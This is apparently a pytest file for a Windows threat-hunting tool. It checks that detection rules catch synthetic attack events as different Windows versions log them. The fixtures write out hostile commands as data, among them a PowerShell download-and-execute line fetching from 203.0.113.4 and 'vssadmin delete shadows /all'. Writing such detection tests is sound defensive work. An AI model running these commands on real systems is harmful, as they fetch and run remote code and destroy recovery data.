"""Which Windows writes what the signs ask for; and the same attack, as old and new Windows write it, is seen."""

from __future__ import annotations

import pytest

from firstbell.drill.intrusion.eventlogs import Event
from firstbell.investigate.hunts.match.signs import load_signs
from firstbell.investigate.hunts.sources.windows import list_generations, list_needs, measure_reach
from scripts.hunt_windows import PAGE, render_page
from tests.investigate.hunts.attacks import audited, event
from tests.investigate.hunts.made import LOGS, MadeHost, signs_of
from tests.investigate.hunts.published import SID, USER, published
from tests.investigate.hunts.published_third import FIREWALL

OLD_SHELL = r"C:\Windows\System32\cmd.exe"


def test_the_page_is_what_the_signs_and_the_data_say() -> None:
    assert PAGE.read_text() == render_page(), "run: python -m scripts.reference"


def test_a_newer_windows_shows_whatever_an_older_one_does() -> None:
    assert [one.name for one in list_generations()] == ["7", "8", "8.1", "10", "1809", "11"]
    for sign in load_signs().values():
        ways = [one.ways for one in measure_reach(sign)]
        assert ways == sorted(ways)
        assert not ways or ways[-1] == measure_reach(sign)[-1].of


def test_what_came_late_or_is_switched_on_first_is_counted_so() -> None:
    signs = load_signs()
    by_name = {one.generation: one for one in measure_reach(signs["look.scan"])}
    # 4799 came with Windows 10
    assert by_name["8.1"].ways < by_name["10"].ways == by_name["10"].of
    assert measure_reach(signs["theft.srum"]) == []
    assert ("Microsoft-Windows-Sysmon/Operational", "Sysmon, which is installed apart") in list_needs(
        signs["account.dump"]
    )


def _started(command: str, **more: str) -> Event:
    """A process as Windows 7 writes it (version 0), and what later versions add."""
    return audited(
        4688, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x2a9f1",
        NewProcessId=more.pop("NewProcessId", "0x1c40"), NewProcessName=command, TokenElevationType="%%1937", ProcessId="0x13d8", **more,
    )  # fmt: skip


OLD_AND_NEW = {
    # no name of the parent: its own record has it
    "process-7": ("entry.webshell", (_started(r"C:\Windows\System32\inetsrv\w3wp.exe", NewProcessId="0x13d8"), _started(OLD_SHELL))),
    "process-8.1": ("hide.recovery", (_started(r"C:\Windows\System32\vssadmin.exe", CommandLine="vssadmin delete shadows /all"),)),
    "logon-7": ("entry.remote_logon", (audited(4624, SubjectUserSid="S-1-5-18", SubjectUserName="WS17$", SubjectDomainName="DISTRICT", SubjectLogonId="0x3e7", TargetUserSid=SID, TargetUserName="jlopez", TargetDomainName="DISTRICT", TargetLogonId="0x45b3a", LogonType="10", LogonProcessName="User32 ", AuthenticationPackageName="Negotiate", WorkstationName="WS17", LogonGuid="x", TransmittedServices="-", LmPackageName="-", KeyLength="0", ProcessId="0x4f4", ProcessName="C:\\Windows\\System32\\winlogon.exe", IpAddress="198.51.100.77", IpPort="0"),)),
    "service-7": ("move.service", (event("Service Control Manager", 7045, ServiceName="PSEXESVC", ImagePath=r"%SystemRoot%\PSEXESVC.exe", ServiceType="user mode service", StartType="demand start", AccountName="LocalSystem"),)),
    "service-10": ("move.service", (audited(4697, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", ServiceName="PSEXESVC", ServiceFileName=r"%SystemRoot%\PSEXESVC.exe", ServiceType="0x10", ServiceStartType="3", ServiceAccount="LocalSystem", ClientProcessStartKey="1", ClientProcessId="1", ParentProcessId="1"),)),
    "firewall-7": ("stay.rdp", (event(FIREWALL, 2004, channel=f"{FIREWALL}/Firewall", RuleId="{x}", RuleName="rdp", Origin="1", Direction="1", Protocol="6", LocalPorts="3389", RemotePorts="*", Action="3", ModifyingUser=SID, ModifyingApplication=r"C:\Windows\System32\netsh.exe"),)),
    "firewall-11": ("stay.rdp", (event(FIREWALL, 2097, channel=f"{FIREWALL}/Firewall", RuleId="{x}", RuleName="rdp", Origin="1", Direction="1", Protocol="6", LocalPorts="3389", RemotePorts="*", Action="3", ModifyingUser=SID, ModifyingApplication=r"C:\Windows\System32\netsh.exe", ErrorCode="0"),)),
    "powershell-2": ("run.download", (event("PowerShell", 400, **{"": "Available | None | NewEngineState=Available\n\tHostApplication=powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')\n\tEngineVersion=2.0"}),)),
    "powershell-7": ("run.download", (event("PowerShellCore", 4104, MessageNumber="1", MessageTotal="1", ScriptBlockText="IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')", ScriptBlockId="x", Path=""),)),
    "image-10": ("entry.opened", (event("Microsoft-Windows-VHDMP", 1, channel="Microsoft-Windows-VHDMP-Operational", Status="0x0", VhdFileName=r"C:\Users\jlopez\Downloads\i.iso", VhdDiskNumber="1"),)),
    "desktop-8": ("entry.remote_logon", (event("Microsoft-Windows-TerminalServices-LocalSessionManager", 21, user_data="EventXML", User=USER, SessionID="3", Address="198.51.100.77"),)),
}  # fmt: skip


@pytest.mark.parametrize("name", OLD_AND_NEW)
def test_an_attack_is_seen_as_old_and_as_new_windows_writes_it(name: str) -> None:
    sign, events = OLD_AND_NEW[name]
    made = MadeHost()
    made.add_night({f"{LOGS}/x.evtx": published(name, sign, *events).events})
    assert sign in signs_of(made.hunt())
